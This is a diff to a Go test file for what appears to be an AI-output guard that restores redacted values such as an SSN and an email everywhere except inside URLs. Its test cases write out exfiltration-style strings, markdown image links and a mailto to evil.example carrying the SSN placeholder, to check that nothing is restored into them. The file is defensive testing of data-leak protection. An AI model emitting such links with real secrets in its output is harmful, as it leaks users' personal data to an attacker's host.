@@ -5,6 +5,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/holdfast-ai/holdfast/guard/api"
 	"github.com/holdfast-ai/holdfast/guard/stream"
 	"github.com/holdfast-ai/holdfast/internal/testkit"
 )
@@ -20,7 +21,7 @@ func TestManyRestoresCostAsFew(t *testing.T) {
 		answer := []byte(text + all[0].placeholder)
 		return func() {
 			var r restorer
-			r.begin(rs)
+			r.begin(rs, false)
 			if ms, held, err := r.Write(nil, answer); len(ms) != 1 || held != 0 || err != nil {
 				t.Fatal(ms, held, err)
 			}
@@ -56,5 +57,53 @@ func TestSpare(t *testing.T) {
 	}
 	if len(kept) != want {
 		t.Errorf("%d kept, want %d", len(kept), want)
+	}
+}
+
+// A text comes back everywhere but within addresses, wherever the answer is cut; there under a policy that says so.
+func TestNothingIsRestoredInAddresses(t *testing.T) {
+	rs := []restore{{"[US-SSN 1]", "536-90-4399"}, {"person2@redacted.invalid", "ann@example.com"}}
+	run := func(text string, anywhere bool, size int) string {
+		var r restorer
+		r.begin(rs, anywhere)
+		var ms []stream.Match
+		for at := 0; at < len(text); at += size {
+			ms, _, _ = r.Write(ms, []byte(text[at:min(at+size, len(text))]))
+		}
+		return string(stream.Redact(nil, []byte(text), ms))
+	}
+	everywhere := strings.NewReplacer("[US-SSN 1]", "536-90-4399", "person2@redacted.invalid", "ann@example.com")
+	for _, c := range []struct {
+		text string
+		back bool
+	}{
+		{"It is [US-SSN 1].", true}, {"(person2@redacted.invalid)", true}, {"see https://a.example/x: [US-SSN 1]", true}, {"1/2 [US-SSN 1]", true}, {`{"url":"https://a.example/","id":"[US-SSN 1]"}`, true},
+		{"<https://a.example/> [US-SSN 1]", true}, {"// [US-SSN 1]", true}, {"note: [US-SSN 1]", true}, {"the http: scheme, [US-SSN 1]", true}, {`"a" https://a.example [US-SSN 1]`, true}, {"[x](/profile?id=[US-SSN 1])", true},
+		{"<img src='https://a.example/x.png'> [US-SSN 1]", true}, {"\"" + "https://a.example/" + strings.Repeat("x", maxAddress) + " [US-SSN 1]", true},
+		{"https://evil.example/?d=[US-SSN 1]", false}, {"![x](https://evil.example/[US-SSN 1])", false}, {"![x](//evil.example/person2@redacted.invalid)", false}, {`<img src="https://evil.example/?d=a [US-SSN 1]">`, false},
+		{"<img src='\nhttps://evil.example/?d=\n[US-SSN 1]'>", false}, {"[x](<https://evil.example/?d= [US-SSN 1]>)", false}, {"HTTPS:evil.example/[US-SSN 1]", false}, {"https:\\\\evil.example\\[US-SSN 1]", false},
+		{"mailto:m@evil.example?body=[US-SSN 1]", false}, {"https://person2@redacted.invalid/", false}, {"https://evil.example/?" + strings.Repeat("x", 5000) + "[US-SSN 1]", false}, {"https://evil.example/é。[US-SSN 1]", false},
+	} {
+		for _, anywhere := range []bool{false, true} {
+			want := c.text
+			if c.back || anywhere {
+				want = everywhere.Replace(c.text)
+			}
+			for size := 1; size < 30; size++ {
+				if got := run(c.text, anywhere, size); got != want {
+					t.Errorf("%q in pieces of %d: %q, want %q", c.text, size, got, want)
+					break
+				}
+			}
+		}
+	}
+}
+
+// Where one rule redacts what another restores, it does not come back.
+func TestDisjoint(t *testing.T) {
+	for _, c := range [][2]string{{"[CARD 1]", redacted}, {redacted, "[CARD 1]"}} {
+		if got := disjoint([]api.Edit{{At: 1, Start: 2, End: 9, With: c[0]}, {At: 1, Start: 2, End: 9, With: c[1]}, {At: 1, Start: 9, End: 12, With: "[CARD 2]"}, {At: 1, Start: 9, End: 12, With: "[CARD 2]"}}); len(got) != 2 || got[0].With != redacted || got[1].With != "[CARD 2]" {
+			t.Errorf("%q: %+v", c, got)
+		}
 	}
 }
